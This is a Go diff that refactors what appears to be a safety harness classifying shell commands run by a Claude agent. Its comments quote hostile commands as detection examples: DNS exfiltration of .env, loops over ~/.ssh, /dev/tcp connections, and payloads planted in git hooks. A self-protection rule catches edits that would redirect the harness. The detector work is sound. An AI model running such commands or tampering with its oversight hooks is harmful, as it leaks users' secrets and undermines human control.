@@ -5,7 +5,12 @@ import (
 	"strings"
 	"sync/atomic"
 
+	"github.com/oath-harness/oath-harness/internal/classify/git"
 	"github.com/oath-harness/oath-harness/internal/classify/kernel"
+	"github.com/oath-harness/oath-harness/internal/classify/outbound"
+	"github.com/oath-harness/oath-harness/internal/classify/person"
+	"github.com/oath-harness/oath-harness/internal/classify/runfiles"
+	"github.com/oath-harness/oath-harness/internal/classify/self"
 	"github.com/oath-harness/oath-harness/internal/classify/shell"
 	"github.com/oath-harness/oath-harness/internal/claude"
 	"github.com/oath-harness/oath-harness/internal/domain"
@@ -27,7 +32,7 @@ func bashTool(c *kernel.Env, r *kernel.Result, ev *claude.Event, cwd string) {
 		return
 	}
 	program(c, r, *in.Command, cwd)
-	outboundProgram(r, *in.Command)
+	outbound.OutboundProgram(r, *in.Command)
 	harnessEnvWrite(c, r, func() string { return *in.Command }, r.Writes, kernel.ShellExec)
 	// A credential read is file_read on its own; next to a command that writes, runs or
 	// sends (dig $(cat .env).x.com), it must not carry that command at file_read's trust.
@@ -171,7 +176,7 @@ func namesRead(name string, assign bool) bool {
 		return true
 	}
 	return assign && (proxyVariable(name) || name == "GIT_DIR" || name == "GIT_WORK_TREE" ||
-		strings.HasPrefix(name, "GIT_CONFIG_KEY_") || envRowFor(name) != nil || containerVariable(name) || claudeSwitchVar(name))
+		strings.HasPrefix(name, "GIT_CONFIG_KEY_") || runfiles.EnvRowFor(name) != nil || kernel.ContainerVariable(name) || claudeSwitchVar(name))
 }
 
 // allNames lists every variable of a program, for the test that namesRead misses none.
@@ -182,7 +187,7 @@ var allNames atomic.Bool
 // container engine or compose project (containerEnv).
 func setsCommandState(prog *shell.Program) bool {
 	for _, n := range prog.Names {
-		if n.Assign && (proxyVariable(n.Name) || n.Name == "GIT_DIR" || n.Name == "GIT_WORK_TREE" || containerVariable(n.Name)) {
+		if n.Assign && (proxyVariable(n.Name) || n.Name == "GIT_DIR" || n.Name == "GIT_WORK_TREE" || kernel.ContainerVariable(n.Name)) {
 			return true
 		}
 	}
@@ -259,7 +264,7 @@ func judgeStructure(c *kernel.Env, r *kernel.Result, prog *shell.Program, cwd st
 			r.Add(risk.Critical, kernel.ShellExec, kernel.RuleSecretVariable, n.Src, verb+" the variable "+n.Name+", named like a secret (API_KEY, SECRET, TOKEN, PASSWORD)")
 		}
 	}
-	envCode(c, r, prog.Names, cwd) // runenv.go: variables that carry code
+	runfiles.EnvCode(c, r, prog.Names, cwd) // runenv.go: variables that carry code
 	// for f in ~/.ssh/*; do cat "$f"; done: a loop over credentials hands them to its commands.
 	for _, l := range prog.Loops {
 		if l.Known && (strings.Contains(l.Value, "/") || strings.HasPrefix(l.Value, ".")) {
@@ -279,7 +284,7 @@ func judgeStructure(c *kernel.Env, r *kernel.Result, prog *shell.Program, cwd st
 			if t.Known && devNet(t.Path) != "" {
 				// bash opens a connection for /dev/tcp|udp/HOST/PORT, reading as much as
 				// writing: data comes in from, or goes out to, another machine.
-				if h := devNet(t.Path); !localHost(h) {
+				if h := devNet(t.Path); !kernel.LocalHost(h) {
 					r.Add(risk.Critical, kernel.ShellExec, kernel.RuleNetworkExternal, rd.Src, "a redirection to "+t.Path+" opens a connection to "+h+": external communication, blocked at any trust")
 				} else {
 					r.Add(risk.Medium, kernel.ShellExec, kernel.RuleNetworkLocal, rd.Src, "a redirection to "+t.Path+" opens a local connection")
@@ -293,14 +298,14 @@ func judgeStructure(c *kernel.Env, r *kernel.Result, prog *shell.Program, cwd st
 				if t.Known {
 					r.Writes = append(r.Writes, t.Path)
 					if rd.Text != nil { // planted.go: cat > Makefile <<'EOF' … plants code too
-						plantedText(c, r, nil, "the shell's "+rd.Op, rd.Text.Value, rd.Op == ">>" || rd.Op == "&>>", t.Path, kernel.ShellExec)
-					} else if len(rd.From) > 0 && plantRowFor(t.Path) != nil { // cat FILE >> .git/config
+						runfiles.PlantedText(c, r, nil, "the shell's "+rd.Op, rd.Text.Value, rd.Op == ">>" || rd.Op == "&>>", t.Path, kernel.ShellExec)
+					} else if len(rd.From) > 0 && runfiles.PlantRowFor(t.Path) != nil { // cat FILE >> .git/config
 						var from []kernel.Target
 						for _, f := range rd.From {
 							from = append(from, kernel.Resolve(f, rd.Dir, false)...)
 						}
-						plantCopy(c, r, "cat with the shell's "+rd.Op, from, t.Path, rd.Op == ">>" || rd.Op == "&>>")
-					} else if quietPlant(t.Path) { // base64 -d <<< … > .git/hooks/pre-commit
+						c.PlantCopy(r, "cat with the shell's "+rd.Op, from, t.Path, rd.Op == ">>" || rd.Op == "&>>")
+					} else if runfiles.QuietPlant(t.Path) { // base64 -d <<< … > .git/hooks/pre-commit
 						r.NotRead("the shell's " + rd.Op + " puts into " + t.Path + ", which runs later, what " + kernel.ShortCmd(rd.Src) + " writes, which cannot be read now")
 					}
 				}
@@ -373,10 +378,10 @@ func judgeCommand(c *kernel.Env, r *kernel.Result, cmd *shell.Cmd) {
 		return
 	}
 	decodedName(x)
-	if selfInvocation(x) || x.RunsHarnessCode() || nestedClaude(x) {
+	if self.SelfInvocation(x) || x.RunsHarnessCode() || nestedClaude(x) {
 		return
 	}
-	personCommand(x)
+	person.PersonCommand(x)
 	if w := kernel.ViaLater(cmd.Via); w != "" {
 		x.Add(risk.Critical, kernel.ShellExec, kernel.RuleScheduledCode, w+" runs "+x.Name+" as a unit of its own, outside the hooks: what it runs later is never judged")
 	}
@@ -417,14 +422,14 @@ func judgeCommand(c *kernel.Env, r *kernel.Result, cmd *shell.Cmd) {
 			}
 		}
 		if strings.Contains(v, "://") {
-			if why := tradeURL(v); why != "" {
+			if why := git.TradeURL(v); why != "" {
 				x.Add(risk.Critical, kernel.ShellExec, kernel.RuleTradeURL, why)
 			}
 		}
 	}
 	recursiveSearch(x) // credsearch.go: what grep -r, rg, ag would print
 	encodedCommand(x)
-	outbound(x)
+	outbound.Outbound(x)
 	if cmd.Stdin {
 		switch cmd.Input {
 		case "pipe":
@@ -432,10 +437,10 @@ func judgeCommand(c *kernel.Env, r *kernel.Result, cmd *shell.Cmd) {
 			x.Add(risk.Critical, kernel.ShellExec, kernel.RuleProgramFromStdin, x.Name+" runs a program piped into it, which cannot be known statically")
 		case "file":
 			x.Add(risk.Medium, kernel.ShellExec, kernel.RuleScript, x.Name+" runs a script file")
-			stdinScript(x)
+			runfiles.StdinScript(x)
 		case "catfile":
 			x.Add(risk.High, kernel.ShellExec, kernel.RuleProgramFromStdin, x.Name+" runs a script file piped into it (issue 2: a pipe into a shell is at least high)")
-			stdinScript(x)
+			runfiles.StdinScript(x)
 		default:
 			// { bash; } < FILE, exec < FILE; sh, a loop's redirection: the program is there,
 			// but where is not followed here.
@@ -453,7 +458,7 @@ func judgeCommand(c *kernel.Env, r *kernel.Result, cmd *shell.Cmd) {
 	from := len(r.Parts)
 	judge(x)
 	pathFloor(x, from)
-	runnerCode(x) // runners.go: what it runs from files
+	runfiles.RunnerCode(x) // runners.go: what it runs from files
 }
 
 // harnessEnvWrite: text that sets a variable the hooks trust (OATH_BIN …) written into a file
@@ -462,8 +467,8 @@ func judgeCommand(c *kernel.Env, r *kernel.Result, cmd *shell.Cmd) {
 // text is made only for a startup file: a Write's can be a 100 kB script, and few files are.
 func harnessEnvWrite(c *kernel.Env, r *kernel.Result, text func() string, writes []string, domain domain.Domain) {
 	for _, w := range writes {
-		if startupFile(w) {
-			if !setsHarnessEnv(text()) {
+		if self.StartupFile(w) {
+			if !self.SetsHarnessEnv(text()) {
 				return
 			}
 			r.Add(risk.Critical, domain, kernel.RuleSelfProtection, w, "writes "+w+", which a shell or direnv loads, with a setting of OATH_BIN, OATH_HOME, OATH_HOOKS_DIR or CLAUDE_PROJECT_DIR: the hooks trust those to find the harness")
